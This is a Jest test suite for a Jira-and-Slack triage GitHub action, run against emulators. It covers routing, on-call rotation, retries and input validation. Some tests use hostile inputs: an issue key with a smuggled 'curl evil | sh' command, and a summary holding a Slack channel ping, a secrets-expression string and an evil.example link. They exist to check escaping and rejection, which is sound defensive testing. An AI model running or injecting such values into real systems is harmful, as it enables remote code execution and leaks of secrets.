// jira-triage through the runner's contract, against the Jira and Slack emulators: the seed's steps 1–2.
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  type ActionRun,
  type ActionStep,
  checkJiraRequest,
  checkJiraResponse,
  checkSlackRequest,
  checkSlackResponse,
  DEFAULT_JIRA_ACCOUNT_ID,
  DEFAULT_JIRA_API_TOKEN,
  DEFAULT_JIRA_EMAIL,
  DEFAULT_JIRA_WORKFLOW,
  DEFAULT_SLACK_TOKEN,
  describeWithContracts,
  JiraEmulator,
  type JiraEmulatorOptions,
  type JiraRecordedRequest,
  type RecordedRequest,
  runAction,
  SlackEmulator,
  unexplainedJiraProblems,
  unexplainedSlackProblems,
} from '@flowkit/testing';
import { afterAll, afterEach, beforeEach, describe, expect, test } from '@jest/globals';

const SEED_TITLE =
  '[FEAT] As a user, I want to see my top 5 active deployments on a dashboard so I can monitor them at a glance.';
// Wednesday of the rotation's third week (it started Monday 2026-11-09): Sarah's week.
const CREATED = Date.parse('2026-11-25T10:00:00Z');
const SARAH = '5b10sarah0000000000000001';
const CONFIG = `
jira:
  url: https://acme.atlassian.net
people:
  tom: { email: tom@example.com }
  priya: { email: priya@example.com }
  sarah: { email: sarah@example.com }
teams:
  frontend:
    slack-channel: C0FRONTEND
    rotation:
      cadence: weekly
      start: 2026-11-09
      time-zone: Europe/London
      members: [tom, priya, sarah]
  payments:
    slack-channel: C0PAYMENTS
routing:
  - name: dashboard work
    match: { project: JIRA, summary: "dashboard|widget" }
    team: frontend
    labels: [team-frontend, service-dashboard]
  - name: urgent
    match: { priority: [High, Highest] }
    labels: priority-high
`;

function jiraOptions(overrides: Partial<JiraEmulatorOptions> = {}): JiraEmulatorOptions {
  return {
    now: () => CREATED,
    users: [
      { accountId: DEFAULT_JIRA_ACCOUNT_ID, displayName: 'Flowkit', emailAddress: DEFAULT_JIRA_EMAIL },
      { accountId: SARAH, displayName: 'Sarah Lee', emailAddress: 'sarah@example.com' },
      { accountId: '5b10tom00000000000000001', displayName: 'Tom Ito', emailAddress: 'tom@example.com' },
    ],
    projects: [{ key: 'JIRA', workflow: DEFAULT_JIRA_WORKFLOW }],
    issues: [{ key: 'JIRA-1234', summary: SEED_TITLE, priority: 'High', issueType: 'Story' }],
    ...overrides,
  };
}

let jira: JiraEmulator;
let slack: SlackEmulator;
let workspace: string;
const jiraLog: JiraRecordedRequest[] = [];
const slackLog: RecordedRequest[] = [];
const temps: string[] = [];

async function writeConfig(text: string): Promise<void> {
  await writeFile(join(workspace, '.github', 'flowkit.yml'), text);
}

beforeEach(async () => {
  jira = await JiraEmulator.start(jiraOptions());
  slack = await SlackEmulator.start({
    channels: [
      { id: 'C0FRONTEND', name: 'devops-team-frontend', members: ['UBOT'] },
      { id: 'C0PAYMENTS', name: 'payments', members: ['UBOT'] },
    ],
    users: [{ id: 'U0SARAH001', name: 'sarah', email: 'sarah@example.com' }],
  });
  workspace = await mkdtemp(join(tmpdir(), 'flowkit-triage-'));
  temps.push(workspace);
  await mkdir(join(workspace, '.github'));
  await writeConfig(CONFIG);
});

afterEach(async () => {
  jiraLog.push(...jira.requests);
  slackLog.push(...slack.requests);
  await Promise.all([jira.stop(), slack.stop()]);
});

afterAll(async () => {
  await Promise.all(temps.map((dir) => rm(dir, { recursive: true, force: true })));
});

const DISPATCH = {
  eventName: 'repository_dispatch',
  // The payload is untrusted: only the key is read; the summary here must never reach Slack or Jira.
  event: {
    action: 'jira-ticket-created',
    client_payload: { issue: { key: 'JIRA-1234', fields: { summary: 'PAYLOAD <!channel>' } } },
  },
};

function triage(inputs: ActionStep['with'] = {}, step: Partial<ActionStep> = DISPATCH): Promise<ActionRun> {
  return runAction({
    action: 'actions/jira-triage',
    workspace,
    ...step,
    with: {
      'jira-url': jira.url,
      'jira-email': DEFAULT_JIRA_EMAIL,
      'jira-api-token': DEFAULT_JIRA_API_TOKEN,
      'slack-token': DEFAULT_SLACK_TOKEN,
      'slack-api-url': slack.apiUrl,
      ...inputs,
    },
  });
}

function expectClean(run: ActionRun): void {
  expect(run.stderr).toBe('');
  expect(run.errors).toEqual([]);
  expect(run.warnings).toEqual([]);
  expect(run.runnerWarnings).toEqual([]);
  expect(run.exitCode).toBe(0);
}

describe('the seed ticket', () => {
  test('tagged, routed to frontend, assigned to this week’s on-call engineer, explained, and announced', async () => {
    const run = await triage();
    expectClean(run);
    const issue = jira.issue('JIRA-1234');
    expect(issue.labels).toEqual(['team-frontend', 'service-dashboard', 'priority-high']);
    expect(issue.assignee).toBe(SARAH);
    expect(run.outputs).toMatchObject({
      key: 'JIRA-1234',
      team: 'frontend',
      labels: 'team-frontend,service-dashboard,priority-high',
      assignee: 'Sarah Lee',
      'slack-channel': 'C0FRONTEND',
      'already-triaged': 'false',
    });
    expect(run.stdout).toContain('sarah is on call 2026-11-23 → 2026-11-29, week 3 of the rotation.');
    const comment = JSON.stringify(issue.comments.map((c) => c.body));
    expect(comment).toContain('Triaged by Flowkit.');
    expect(comment).toContain('sarah is on call 2026-11-23 → 2026-11-29, week 3 of the rotation.');
    const messages = slack.messages('C0FRONTEND');
    expect(messages.map((m) => m.text)).toEqual([
      `New ticket: ${SEED_TITLE} (JIRA-1234) - Assignee: <@U0SARAH001>`,
    ]);
    expect(JSON.stringify(messages[0]?.blocks)).toContain(`<${jira.url}/browse/JIRA-1234|JIRA-1234>`);
    expect(issue.properties['flowkit-slack']).toEqual({ channel: 'C0FRONTEND', ts: messages[0]?.ts });
    expect(run.outputs['slack-ts']).toBe(messages[0]?.ts);
    expect(issue.properties['flowkit-triage']).toMatchObject({ team: 'frontend', assignee: SARAH });
    expect(run.masks).toEqual([DEFAULT_JIRA_API_TOKEN, DEFAULT_SLACK_TOKEN]);
  });

  test('re-delivery of the same webhook changes nothing and posts nothing new, in one Jira call', async () => {
    const first = await triage();
    const before = {
      jira: jira.requests.length,
      slack: slack.requests.length,
      comments: jira.issue('JIRA-1234').comments.length,
    };
    const again = await triage();
    expectClean(again);
    expect(again.outputs).toMatchObject({
      'already-triaged': 'true',
      'slack-ts': first.outputs['slack-ts'],
      'slack-channel': 'C0FRONTEND',
    });
    expect(jira.requests.length - before.jira).toBe(1);
    expect(slack.requests.length).toBe(before.slack);
    expect(jira.issue('JIRA-1234').comments).toHaveLength(before.comments);
    expect(slack.messages('C0FRONTEND')).toHaveLength(1);
  });

  test('if Slack was down, a rerun tells the team without triaging again', async () => {
    slack.failNext('chat.postMessage', { status: 503, times: 2 });
    const first = await triage({ retries: 1 });
    expect(first.exitCode).toBe(0);
    expect(first.warnings).toEqual([
      expect.stringMatching(/^The team was not told on Slack: chat\.postMessage: Slack answered HTTP 503/),
    ]);
    expect(jira.issue('JIRA-1234').assignee).toBe(SARAH);
    const second = await triage();
    expectClean(second);
    expect(slack.messages('C0FRONTEND')).toHaveLength(1);
    expect(jira.issue('JIRA-1234').comments).toHaveLength(1);
  });
});

describe('decisions', () => {
  test('an assignee already set is kept', async () => {
    await jira.stop();
    jira = await JiraEmulator.start(
      jiraOptions({
        issues: [{ key: 'JIRA-1234', summary: SEED_TITLE, assignee: '5b10tom00000000000000001' }],
      }),
    );
    const run = await triage();
    expectClean(run);
    expect(jira.issue('JIRA-1234').assignee).toBe('5b10tom00000000000000001');
    expect(run.stdout).toContain('The ticket already has an assignee; left as it is.');
  });

  test('a vacation skips to the next engineer, and the comment says why', async () => {
    await writeConfig(
      CONFIG.replace(
        'members: [tom, priya, sarah]',
        'members: [tom, priya, sarah]\n      unavailable: [{ member: sarah, from: 2026-11-20, to: 2026-11-30, reason: vacation }]',
      ),
    );
    const run = await triage();
    expectClean(run);
    expect(jira.issue('JIRA-1234').assignee).toBe('5b10tom00000000000000001');
    expect(run.stdout).toContain(
      'tom is on call 2026-11-23 → 2026-11-29, week 3 of the rotation; skipped sarah (unavailable 2026-11-20 → 2026-11-30: vacation).',
    );
  });

  test('nobody available: triaged and announced without an assignee, with a warning', async () => {
    await writeConfig(
      CONFIG.replace(
        'members: [tom, priya, sarah]',
        'members: [sarah]\n      unavailable: [{ member: sarah, from: 2026-11-01, to: 2026-12-31 }]',
      ),
    );
    const run = await triage();
    expect(run.exitCode).toBe(0);
    expect(run.warnings).toEqual([
      "Nobody was assigned: in team frontend's rotation, nobody in the rotation is available on 2026-11-25: sarah are all away.",
    ]);
    expect(jira.issue('JIRA-1234').assignee).toBeUndefined();
    expect(slack.messages('C0FRONTEND')[0]?.text).toContain('- Assignee: unassigned');
  });

  test('a team chosen by the caller wins over the rules', async () => {
    const run = await triage({ team: 'payments' });
    expectClean(run);
    expect(run.outputs.team).toBe('payments');
    expect(slack.messages('C0PAYMENTS')).toHaveLength(1);
    expect(run.stdout).toContain('Team payments has no rotation, so nobody was assigned.');
  });

  test('a hostile summary is escaped in Slack and kept literal in Jira', async () => {
    await jira.stop();
    const hostile =
      'Dashboard "broken" <!channel> ${{ secrets.SLACK_BOT_TOKEN }}\n<https://evil.example|click>';
    jira = await JiraEmulator.start(jiraOptions({ issues: [{ key: 'JIRA-1234', summary: hostile }] }));
    const run = await triage();
    expectClean(run);
    const [message] = slack.messages('C0FRONTEND');
    expect(JSON.stringify(message)).not.toMatch(/<!channel>|<https:\/\/evil/);
    expect(message?.text).toContain('Dashboard "broken" &lt;!channel&gt; ${{ secrets.SLACK_BOT_TOKEN }}');
    expect(JSON.stringify(message)).not.toContain('PAYLOAD');
  });
});

describe('bad input and faults', () => {
  test.each([
    [
      'a payload without a key',
      { eventName: 'repository_dispatch', event: { client_payload: { ticket: 'x' } } },
      {},
      /^Input 'issue-key' is not set, and the event carries no client_payload\.issue\.key/,
    ],
    [
      'a payload with a hostile key',
      {
        eventName: 'repository_dispatch',
        event: { client_payload: { issue: { key: 'JIRA-1; curl evil | sh' } } },
      },
      {},
      /^Input 'issue-key' is not set, and the event’s client_payload holds no valid issue key/,
    ],
    [
      'an issue key that is not one',
      DISPATCH,
      { 'issue-key': 'jira 1' },
      /^Input 'issue-key' is not an issue key: 'jira 1'/,
    ],
    [
      'an unknown team',
      DISPATCH,
      { team: 'backend' },
      /^Input 'team' names team 'backend', which \.github\/flowkit\.yml does not define\. The teams are: frontend, payments\./,
    ],
    [
      'a Slack token that is not one',
      DISPATCH,
      { 'slack-token': 'ghp_x' },
      /^Input 'slack-token' is not a Slack token/,
    ],
    ['no Jira credentials', DISPATCH, { 'jira-email': '' }, /^Input 'jira-email' is required for Jira Cloud/],
  ] as [string, Partial<ActionStep>, ActionStep['with'], RegExp][])(
    '%s: one error, no request',
    async (_name, step, inputs, message) => {
      const run = await triage(inputs, step);
      expect(run.exitCode).toBe(1);
      expect(run.errors).toEqual([expect.stringMatching(message)]);
      expect(jira.requests).toEqual([]);
      expect(slack.requests).toEqual([]);
    },
  );

  test('an empty rotation in the config is named with its file, line and path', async () => {
    await writeConfig(CONFIG.replace('members: [tom, priya, sarah]', 'members: []'));
    const run = await triage();
    expect(run.errors).toEqual([
      '.github/flowkit.yml:15: teams.frontend.rotation.members: expected at least 1 item(s), got 0',
    ]);
    expect(jira.requests).toEqual([]);
  });

  test('a ticket Jira does not know fails the step clearly', async () => {
    const run = await triage({ 'issue-key': 'JIRA-404' });
    expect(run.exitCode).toBe(1);
    expect(run.errors).toEqual([
      expect.stringMatching(
        /^Unexpected failure: Jira answered 404 to GET \/rest\/api\/3\/issue\/JIRA-404: Issue does not exist/,
      ),
    ]);
    expect(slack.requests).toEqual([]);
  });

  test('a rate-limited Jira is waited out', async () => {
    jira.failNext({ method: 'GET' }, { status: 429, retryAfterSeconds: 1 });
    const run = await triage();
    expectClean(run);
    expect(run.outputs.team).toBe('frontend');
  });
});

describeWithContracts("Atlassian's and Slack's API descriptions", () => {
  test('every request jira-triage sent, and every answer, fit them', () => {
    const v3 = jiraLog.filter(
      (r) => r.pathname.startsWith('/rest/api/3/') && r.status !== 429 && r.status < 500,
    );
    expect(v3.length).toBeGreaterThan(30);
    const problems = [
      ...v3.flatMap((r) => unexplainedJiraProblems([...checkJiraRequest(r), ...checkJiraResponse(r)])),
      ...slackLog
        .filter((r) => r.status !== 429 && r.status < 500)
        .flatMap((r) => unexplainedSlackProblems([...checkSlackRequest(r), ...checkSlackResponse(r)])),
    ];
    expect(problems).toEqual([]);
  });
});
